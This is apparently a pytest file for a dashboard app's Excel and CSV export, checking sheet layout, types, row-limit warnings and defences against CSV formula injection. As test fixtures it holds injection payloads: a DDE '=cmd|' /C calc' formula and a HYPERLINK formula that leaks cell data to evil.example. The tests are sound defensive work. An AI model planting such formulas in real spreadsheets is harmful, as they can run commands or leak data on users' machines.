"""The workbook: a sheet per area plus Flags and Definitions, real types, formulas neutralised."""

import io

import openpyxl
import pandas as pd

from lib.config import Thresholds
from lib.export import EXCEL_MAX_ROWS, build_workbook, neutralise


def test_workbook_sheets_types_and_formula_neutralisation():
    periods = pd.to_datetime(["2025-01-01", "2025-02-01", "2025-03-01"])
    email = pd.DataFrame({"period": periods, "sent": [1000, 1200, 900],
                          "unsubscribe_rate": [0.001, 0.0025, 0.0008],
                          "campaign": ["=cmd|' /C calc'!A0", "+SUM(A1)", "Spring"],
                          "clicks": pd.array([5, pd.NA, 7], dtype="Int64")})
    flags = pd.DataFrame({"Area": ["email"], "Metric": ["Unsubscribe rate"], "Value": [0.0025],
                          "Subject": ["@evil"]})
    data, warnings = build_workbook({"email": {"Rates by month": email}}, flags, Thresholds())
    assert warnings == []
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Flags", "email", "Definitions"]
    sheet = book["email"]
    # row 1 = table title, row 2 = header, data from row 3
    assert [c.value for c in sheet[2]][:4] == ["Period", "Sent", "Unsubscribe rate", "Campaign"]  # as on the pages
    assert sheet["A3"].is_date and sheet["A3"].value.year == 2025
    assert sheet["B3"].value == 1000 and isinstance(sheet["B3"].value, int)
    assert sheet["C4"].value == 0.0025 and sheet["C4"].number_format == "0.00%"
    assert sheet["D3"].value == "'=cmd|' /C calc'!A0" and sheet["D3"].data_type == "s"
    assert sheet["D4"].value == "'+SUM(A1)"
    assert sheet["E3"].value == 5 and sheet["E4"].value is None  # missing stays an empty cell
    assert book["Flags"]["D3"].value == "'@evil"
    assert len(sheet._charts) == 1  # a native line chart beside the time table
    definitions = [row[0].value for row in book["Definitions"].iter_rows(min_row=3)]
    assert "NPS" in definitions and "Delivery rate" in definitions
    # no formula anywhere in the workbook
    for ws in book.worksheets:
        for row in ws.iter_rows():
            assert not any(c.data_type == "f" for c in row)


def test_neutralise_leaves_numbers_and_plain_text():
    assert neutralise(-3) == -3
    assert neutralise("-3") == "'-3"
    assert neutralise("Spring sale") == "Spring sale"


def test_row_limit_warns_instead_of_silently_cutting(monkeypatch):
    import lib.export as export

    monkeypatch.setattr(export, "EXCEL_MAX_ROWS", 10)
    big = pd.DataFrame({"x": range(50)})
    data, warnings = export.build_workbook({"cohorts": {"Events": big}}, pd.DataFrame(), Thresholds())
    assert "Sheet 'cohorts', table 'Events': 50 rows; only the first 8 fit in Excel." in warnings[0]
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book["cohorts"].max_row == 10  # title + header + 8 rows
    assert EXCEL_MAX_ROWS == 1_048_576


# ----------------------------------------------------------- CSV downloads (OWASP CSV injection)

def test_csv_download_neutralises_formulas_and_headers_and_keeps_numbers():
    import csv

    from lib.export import csv_bytes

    frame = pd.DataFrame({
        "comment": ['=HYPERLINK("http://evil.example/?leak="&B3,"Help")', "+1 great", "-2 bad", "@SUM(A1)",
                    "\tcmd", "\rcmd", "fine\r=1+1", None],
        "=cmd|' /C calc'!A0": ["a", "b", "c", "d", "e", "f", "g", "h"],     # a header from the file
        "score": [-5, 3, -1, 0, 10, 2, 7, 9],                              # numbers stay numbers
        "delta": [-0.25, 0.5, -1.5, 0.0, 1.0, 2.0, 3.0, float("nan")],
        "segment": pd.Categorical(["=1+1", "ok", "ok", "ok", "ok", "ok", "ok", "ok"]),
    })
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))
    assert rows[0] == ["comment", "'=cmd|' /C calc'!A0", "score", "delta", "segment"]
    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://evil.example/?leak=\"&B3,\"Help\")", "'+1 great",
                                         "'-2 bad", "'@SUM(A1)", "'\tcmd", "'\rcmd", "fine\r=1+1", ""]
    assert [r[2] for r in rows[1:]] == ["-5", "3", "-1", "0", "10", "2", "7", "9"]  # -5 is not prefixed
    assert rows[1][3] == "-0.25" and rows[8][3] == ""
    assert rows[1][4] == "'=1+1"
    assert frame.columns[1] == "=cmd|' /C calc'!A0"  # the caller's frame is not changed
    # a CR inside a cell is quoted (CRLF line ends), so "=1+1" cannot start a row of its own
    assert b'"fine\r=1+1"' in csv_bytes(frame)


def test_workbook_headers_are_neutralised_too():
    frame = pd.DataFrame({"=HYPERLINK(\"http://x\")": ["a"], "-total": [1]})
    data, _ = build_workbook({"nps": {"Comments": frame}}, pd.DataFrame(), Thresholds())
    sheet = openpyxl.load_workbook(io.BytesIO(data))["nps"]
    assert [c.value for c in sheet[2]] == ["'=HYPERLINK(\"http://x\")", "'-total"]
    assert sheet["B3"].value == 1


def test_nps_page_comments_download_is_neutralised(monkeypatch):
    """The reported case: a customer's comment with a formula, downloaded as nps_comments.csv."""
    import streamlit

    from tests.apptest import fresh_app

    downloads: dict[str, bytes] = {}
    real = streamlit.download_button

    def capture(label, data, file_name=None, *args, **kwargs):
        downloads[file_name] = data
        return real(label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", capture)
    survey = ("Date,Email,Score,Comment\n"
              "2025-01-06,a@x.example,2,\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B3,\"\"Click\"\")\"\n"
              "2025-01-07,b@x.example,3,too many emails\n"
              "2025-01-08,c@x.example,10,love it\n").encode()
    at = fresh_app()
    at.switch_page("app_pages/nps.py").run()
    at.file_uploader(key="upload_nps").set_value(("survey.csv", survey, "text/csv")).run()
    assert not at.exception, at.exception
    made = downloads["nps_comments.csv"]
    text = (made() if callable(made) else made).decode("utf-8")  # the bytes are made when clicked
    assert "'=HYPERLINK(" in text and ",=HYPERLINK(" not in text and "\"=HYPERLINK(" not in text


def test_definitions_sheet_lists_per_topic_thresholds_beside_the_general_value():
    general = Thresholds()["email_open_rate_min"]
    thresholds = Thresholds().with_topic_value("email_open_rate_min", "welcome", 0.45)
    data, _ = build_workbook({}, pd.DataFrame(), thresholds)
    cells = [[c.value for c in row] for row in openpyxl.load_workbook(io.BytesIO(data))["Definitions"].iter_rows()]
    title = next(i for i, row in enumerate(cells) if row[0] == "Per-topic thresholds used")
    assert cells[title + 1][:4] == ["Threshold", "Topic", "Value", "General value"]
    label, topic, value, general_value = cells[title + 2][:4]
    assert (topic, value, general_value) == ("welcome", 0.45, general) and "open" in label.lower()
    # without per-topic values the table is left out, not shown empty
    data, _ = build_workbook({}, pd.DataFrame(), Thresholds())
    cells = [c.value for row in openpyxl.load_workbook(io.BytesIO(data))["Definitions"].iter_rows() for c in row]
    assert "Per-topic thresholds used" not in cells
